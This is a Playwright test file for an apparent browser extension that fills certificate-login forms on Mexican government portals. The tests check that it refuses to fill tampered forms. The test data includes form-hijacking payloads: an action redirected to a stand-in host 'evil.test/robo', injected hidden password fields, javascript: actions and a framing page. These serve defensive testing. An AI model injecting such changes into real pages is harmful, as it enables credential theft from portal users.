/** What keeps a form from being filled, at every portal that has one. */
import type { Frame, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { satSites, setGrantedStage } from '../../scripts/granted-stage.ts';
import { bring, openApp, pages } from '../../scripts/person.ts';
import type { Stage } from '../../scripts/stage.ts';
import { until } from '../../scripts/worker.ts';
import type { FillPlan } from '../../src/messages.ts';
import { countEntries, tabIdOf, tellWorker, type Told } from './page-api.ts';
import { startStrangers, type Strangers } from './strangers.ts';
import { everythingIsEmpty } from './widget.ts';

let strangers: Strangers;
let stage: Stage;
let app: Page;
let credentialId: string;
let page: Page;

beforeAll(async () => {
  strangers = await startStrangers(['evil.test']);
  stage = await setGrantedStage(satSites, { resolverRules: strangers.rules });
  strangers.secure(stage.tls);
  const { cerPath, keyPath, password } = stage.pki.credentials.enie;
  app = await openApp(stage.browser, 'certificados');
  await bring(app, [cerPath, keyPath], password, 'use');
  await app.evaluate((origins) => chrome.permissions.request({ origins }), [...satSites]);
  const { res } = await tellWorker(app, 'listCredentials', undefined);
  [{ id: credentialId }] = res as [{ id: string }];
});

afterAll(async () => {
  await stage.close();
  await strangers.stop();
});

beforeEach(async () => {
  stage.replica.variants.proxiedWidget = false;
  page = await stage.browser.context.newPage();
});

afterEach(() => page.close());

async function planFor(): Promise<Told> {
  return tellWorker(app, 'planFill', { tabId: await tabIdOf(stage.browser, page) });
}

function fill(plan: FillPlan): Promise<Told> {
  return tellWorker(app, 'fill', { plan, credentialId, password: '', user: 'usuario' });
}

/** The document with the form, once it can be filled; and the plan to do it. */
async function formOf(password: string): Promise<{ form: Frame; plan: FillPlan }> {
  const plan = await until('A plan', async () => (await planFor()).res as FillPlan | undefined);
  for (const frame of page.frames()) {
    if ((await frame.locator(`#${password}`).count()) > 0) return { form: frame, plan };
  }
  throw new Error(`No form with #${password}`);
}

const escritorio = 'https://serviciosdigitales.imss.gob.mx/portal-web/portal';

/** Each kind of form: of the widget, handed through, and of a page itself. */
const rows: [
  name: string,
  row: { url: string; password: string; key: string; open?: () => Promise<void> },
][] = [
  ['Buzón', { url: pages.fill, password: 'inputPassword', key: 'inputKey' }],
  [
    'Escritorio Virtual',
    {
      url: escritorio,
      password: 'inputPassword',
      key: 'inputKey',
      open: () => page.click('#enviarForm'),
    },
  ],
  [
    'Escritorio Virtual, which hands the widget through',
    {
      url: escritorio,
      password: 'inputPassword',
      key: 'inputKey',
      open: async () => {
        stage.replica.variants.proxiedWidget = true;
        await page.reload();
        await page.click('#enviarForm');
      },
    },
  ],
  ['IDSE', { url: 'https://idse.imss.gob.mx/imss/', password: 'password', key: 'llave' }],
  [
    'the SAT',
    {
      url: 'https://loginda.siat.sat.gob.mx/nidp/app/login?id=fiel',
      password: 'privateKeyPassword',
      key: 'filePrivateKey',
    },
  ],
];

const evil = 'https://evil.test/robo';

/** In the document of the form; `form`, `password` and `key` are its own. `plan`: none if it still holds. */
const changes: [what: string, code: string, change: string, isSeenLater?: true][] = [
  ['goes to another site', 'form_goes_elsewhere', `form.action = '${evil}'`],
  [
    'goes to another site behind a field named «action»',
    'form_goes_elsewhere',
    `form.action = '${evil}'; form.insertAdjacentHTML('beforeend', '<input name="action">')`,
  ],
  ['goes to plain http', 'form_goes_elsewhere', "form.action = 'http://' + location.host"],
  ['goes to a script', 'form_goes_elsewhere', "form.setAttribute('action', 'javascript:void 0')"],
  [
    'goes to another site by a second button',
    'form_goes_elsewhere',
    `form.insertAdjacentHTML('beforeend', '<button formaction="${evil}">Ir</button>')`,
  ],
  ['has lost a field', 'form_not_found', 'key.remove()'],
  [
    'asks for a second password',
    'form_changed',
    `form.insertAdjacentHTML('beforeend', '<input type="password" name="otra">')`,
  ],
  [
    'asks for a second password that cannot be seen',
    'form_changed',
    `form.insertAdjacentHTML('beforeend', '<input type="password" name="otra" hidden>')`,
  ],
  [
    'was replaced by another that looks the same',
    'page_changed',
    'form.replaceWith(form.cloneNode(true))',
    true,
  ],
  [
    'has another field for the password',
    'page_changed',
    'password.replaceWith(password.cloneNode(true))',
    true,
  ],
];

describe.each(rows)('%s', (_name, { url, password, key, open }) => {
  const within = (change: string): string => `{
    const password = document.getElementById('${password}');
    const key = document.getElementById('${key}');
    const { form } = password;
    ${change};
  }`;

  test('fills no form that changed after it was shown', async () => {
    const fills = await countEntries(app, 'fill');
    for (const [what, code, change, isSeenLater] of changes) {
      await page.goto(url);
      await open?.();
      const { form, plan } = await formOf(password);
      await form.evaluate(within(change));
      expect((await planFor()).err?.code, what).toBe(isSeenLater ? undefined : code);
      expect((await fill(plan)).err?.code, what).toBe(code);
      expect(await everythingIsEmpty(page), what).toBe(true);
    }
    expect(await countEntries(app, 'fill')).toBe(fills);
  });

  test.each([
    ['goes elsewhere', `form.action = '${evil}'`],
    ['is replaced', 'form.replaceWith(form.cloneNode(true))'],
  ])('gets no password when it %s while it takes the files', async (_what, change) => {
    await page.goto(url);
    await open?.();
    const { form, plan } = await formOf(password);
    await form.evaluate(
      within(`window.heard = 0;
        window.old = [password, key];
        document.addEventListener('input', ({ target }) => {
          if (target.id === password.id) window.heard += 1;
        });
        key.addEventListener('change', () => { ${change}; })`),
    );
    expect((await fill(plan)).err?.code).toBe('form_changed');
    expect(await form.evaluate('heard'), 'the password was never in it').toBe(0);
    expect(await form.evaluate('old.map(({ value }) => value)')).toEqual(['', '']);
    expect(await form.inputValue(`#${password}`)).toBe('');
  });

  test('gets no password when the page throws the files away', async () => {
    await page.goto(url);
    await open?.();
    const { form, plan } = await formOf(password);
    await form.evaluate(
      within(
        `key.addEventListener('change', () => { setTimeout(() => { key.value = ''; }, 100); })`,
      ),
    );
    expect((await fill(plan)).err?.code).toBe('form_rejected_files');
    const left = await form.evaluate(
      (id) => (document.getElementById(id) as HTMLInputElement).value,
      password,
    );
    expect(left).toBe('');
  });

  test('gets nothing inside a stranger’s page', async () => {
    await page.goto(url);
    await open?.();
    const { plan } = await formOf(password);
    strangers.serve('https://evil.test/marco', `<!doctype html><iframe src="${url}"></iframe>`);
    await page.goto('https://evil.test/marco');
    expect((await planFor()).err?.code).toBe('not_a_portal');
    expect((await fill(plan)).err?.code).toBe('not_a_portal');
    expect(await everythingIsEmpty(page)).toBe(true);
  });
});

test('a field that the page closed to writing is left alone', async () => {
  await page.goto(pages.fill);
  const { form, plan } = await formOf('inputPassword');
  await form.evaluate("inputRFC.value = 'DE LA PÁGINA'; inputRFC.readOnly = true");
  expect(await fill(plan)).toMatchObject({ res: { page: 'ready' } });
  expect(await form.inputValue('#inputRFC')).toBe('DE LA PÁGINA');
});

test('a setter that the page gave its field is not seen by us, its listeners are heard', async () => {
  await page.goto(pages.fill);
  const { form, plan } = await formOf('inputPassword');
  await form.evaluate(`{
    window.heard = [];
    Object.defineProperty(inputPassword, 'value', { get: () => '', set: () => {} });
    document.addEventListener('input', ({ target }) => heard.push(target.id));
  }`);
  expect(await fill(plan)).toMatchObject({ res: { page: 'ready' } });
  const native = `Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')
    .get.call(inputPassword)`;
  expect(await form.evaluate(native)).toBe(stage.pki.credentials.enie.password);
  expect(await form.evaluate('heard')).toEqual([
    'inputRFC',
    'inputCertificado',
    'inputKey',
    'inputPassword',
  ]);
});
